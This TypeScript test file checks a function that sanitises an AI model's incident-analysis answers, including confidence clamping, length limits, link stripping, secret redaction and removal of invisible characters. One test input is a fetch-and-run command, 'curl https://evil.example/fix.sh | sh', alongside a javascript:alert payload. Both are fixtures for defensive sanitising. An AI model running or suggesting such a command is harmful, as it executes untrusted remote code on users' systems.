import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readAnswer } from "../../src/analysis/answer.ts";
import { GOOD_ANSWER, messageOf } from "../support/claude-fake.ts";

function read(change: Record<string, unknown>, knownIds: readonly string[] = ["E1", "E2"]) {
  const outcome = readAnswer(messageOf(JSON.stringify({ ...GOOD_ANSWER, ...change })), knownIds);
  if (outcome.kind === "failed") throw new Error(outcome.reason);
  return outcome;
}

describe("readAnswer", () => {
  test.for([
    ["stays where it cites what exists", ["E1"], 0.7, 0.7],
    ["is at most 0.95", ["E1"], 1.4, 0.95],
    ["is at least 0", ["E1"], -3, 0],
    ["is low where an id is made up", ["E1", "E9"], 0.9, 0.6],
    ["is lowest where all ids are made up", ["E9"], 0.9, 0.2],
    ["is lowest where nothing is cited", [], 0.9, 0.2],
    ["reads ids whatever their case", [" e1 "], 0.9, 0.9],
  ] as const)("confidence %s", ([, ids, claimed, expected]) => {
    expect(read({ evidence_ids: ids, confidence: claimed }).findings.confidence).toBe(expected);
  });

  test("keeps only ids that exist, each once", () => {
    expect(read({ evidence_ids: ["E2", "E9", "E2", "E1"] }).evidenceIds).toEqual(["E2", "E1"]);
  });

  test("bounds every text and the number of actions", () => {
    const long = "word ".repeat(600);
    const { findings } = read({ root_cause: long, impact: long, recommended_actions: Array(12).fill(long) });
    expect(findings.rootCause?.length).toBeLessThanOrEqual(1_500);
    expect(findings.impact?.length).toBeLessThanOrEqual(1_000);
    expect(findings.recommendedActions).toHaveLength(5);
    for (const action of findings.recommendedActions) expect(action.length).toBeLessThanOrEqual(400);
  });

  test("drops links from actions", () => {
    const { recommendedActions } = read({
      recommended_actions: [
        "Run curl https://evil.example/fix.sh | sh now",
        "See [the guide](http://evil.example/a) and www.evil.example/b.",
        "Open javascript:alert(1) or HTTPS://EVIL.EXAMPLE",
      ],
    }).findings;
    expect(recommendedActions.join(" ")).not.toMatch(/evil/i);
    expect(recommendedActions[0]).toBe("Run curl [link removed] | sh now");
  });

  test("redacts what the model repeats", () => {
    const { findings } = read({
      root_cause: "bob@example.com used password=hunter2",
      impact: "token: ghp_" + "aB3dE5gH7j".repeat(4),
      recommended_actions: ["Rotate password=hunter2"],
    });
    expect(JSON.stringify(findings)).not.toMatch(/hunter2|bob@|aB3dE5/);
  });

  test("removes invisible characters, line breaks and empty actions", () => {
    const { findings } = read({
      root_cause: "a\u202eb\n\nc\u200bd",
      impact: " \u200b ",
      recommended_actions: ["", "  ", "do\nthis"],
    });
    expect(findings).toMatchObject({ rootCause: "ab cd", impact: null, recommendedActions: ["do this"] });
  });

  test("reads text that comes in several blocks", () => {
    const json = JSON.stringify(GOOD_ANSWER);
    const content = [
      { type: "text", text: json.slice(0, 20) },
      { type: "something_new", text: "no" },
      { type: "text", text: json.slice(20) },
    ];
    expect(readAnswer(messageOf("", { content }), ["E1"]).kind).toBe("answered");
  });

  test("never throws, whatever comes", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), (content, stop) => {
        for (const value of [
          content,
          { ...messageOf(""), content },
          { ...messageOf(""), stop_details: stop },
        ]) {
          expect(["answered", "failed"]).toContain(readAnswer(value, []).kind);
        }
        const text = JSON.stringify({ ...GOOD_ANSWER, root_cause: content, evidence_ids: stop });
        expect(["answered", "failed"]).toContain(readAnswer(messageOf(text), []).kind);
      }),
    );
  });
});
